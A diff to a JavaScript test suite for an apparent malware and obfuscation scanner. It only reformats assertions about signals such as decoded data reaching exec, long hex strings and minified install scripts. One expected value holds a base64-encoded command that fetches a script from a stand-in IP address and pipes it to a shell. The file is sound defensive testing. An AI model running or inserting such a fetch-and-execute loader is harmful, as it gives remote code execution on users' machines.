@@ -30,7 +30,12 @@ describe('decoded data reaching a code sink', () => {
 
   it('sees a decoder nested directly in child_process.exec', () => {
     const [signal] = scanSource({ path: 'lib/x.js', text: EXEC_BASE64_COMMAND });
-    expect(signal).toMatchObject({ id: 'obfuscation.exec-decoded', severity: 'high', evidence: { line: 1, value: "exec(Buffer.from('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcyB8IHNo','base64'" }, details: { direct: true } });
+    expect(signal).toMatchObject({
+      id: 'obfuscation.exec-decoded',
+      severity: 'high',
+      evidence: { line: 1, value: "exec(Buffer.from('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcyB8IHNo','base64'" },
+      details: { direct: true },
+    });
   });
 
   it('follows flatmap-stream: createDecipher -> update -> module._compile', () => {
@@ -41,7 +46,12 @@ describe('decoded data reaching a code sink', () => {
 
   it("reports flatmap-stream's encrypted payload file as a long hex string", () => {
     const [signal] = scanSource({ path: 'test/data.js', text: FLATMAP_STREAM_DATA });
-    expect(signal).toMatchObject({ id: 'obfuscation.long-hex-string', severity: 'low', evidence: { line: 1 }, details: { count: 1, length: 284 } });
+    expect(signal).toMatchObject({
+      id: 'obfuscation.long-hex-string',
+      severity: 'low',
+      evidence: { line: 1 },
+      details: { count: 1, length: 284 },
+    });
   });
 
   it('does not flag sinks fed with literals, regex.exec, or decoders whose output is only printed', () => {
@@ -71,7 +81,9 @@ describe('decoded data reaching a code sink', () => {
 describe('encoding and obfuscator fingerprints', () => {
   it('counts javascript-obfuscator hex identifiers (coa/rc compile.js), raised when install-time', () => {
     const plain = scanSource({ path: 'compile.js', text: COA_COMPILE_JS });
-    expect(plain.map((s) => [s.id, s.severity, s.details?.count, s.details?.distinct])).toEqual([['obfuscation.hex-identifiers', 'medium', 19, 7]]);
+    expect(plain.map((s) => [s.id, s.severity, s.details?.count, s.details?.distinct])).toEqual([
+      ['obfuscation.hex-identifiers', 'medium', 19, 7],
+    ]);
     const installTime = scanSource({ path: 'compile.js', text: COA_COMPILE_JS, installTime: true });
     expect(installTime.map((s) => [s.id, s.severity, s.details?.installTime])).toEqual([['obfuscation.hex-identifiers', 'high', true]]);
   });
@@ -103,13 +115,21 @@ describe('encoding and obfuscator fingerprints', () => {
   it('reports minified code only in install-time files', () => {
     expect(scanSource({ path: 'dist/index.js', text: MINIFIED_INSTALL_JS })).toEqual([]);
     const [signal] = scanSource({ path: 'install.js', text: MINIFIED_INSTALL_JS, installTime: true });
-    expect(signal).toMatchObject({ id: 'obfuscation.minified-install-script', severity: 'medium', evidence: { line: 1 }, details: { lineLength: 1651, installTime: true } });
+    expect(signal).toMatchObject({
+      id: 'obfuscation.minified-install-script',
+      severity: 'medium',
+      evidence: { line: 1 },
+      details: { lineLength: 1651, installTime: true },
+    });
   });
 
   it('scans only the first maxScanChars and says so', () => {
     const text = `${'x'.repeat(100)}\n${EVAL_BASE64_LOADER}`;
     expect(scanSource({ path: 'a.js', text }, { maxScanChars: 50 })).toEqual([]);
-    const signals = scanSource({ path: 'a.js', text: `${EVAL_BASE64_LOADER}${'\n'.repeat(100)}` }, { maxScanChars: EVAL_BASE64_LOADER.length });
+    const signals = scanSource(
+      { path: 'a.js', text: `${EVAL_BASE64_LOADER}${'\n'.repeat(100)}` },
+      { maxScanChars: EVAL_BASE64_LOADER.length },
+    );
     expect(signals.map((s) => [s.id, s.details?.scannedChars])).toEqual([
       ['obfuscation.long-base64-string', EVAL_BASE64_LOADER.length],
       ['obfuscation.exec-decoded', EVAL_BASE64_LOADER.length],
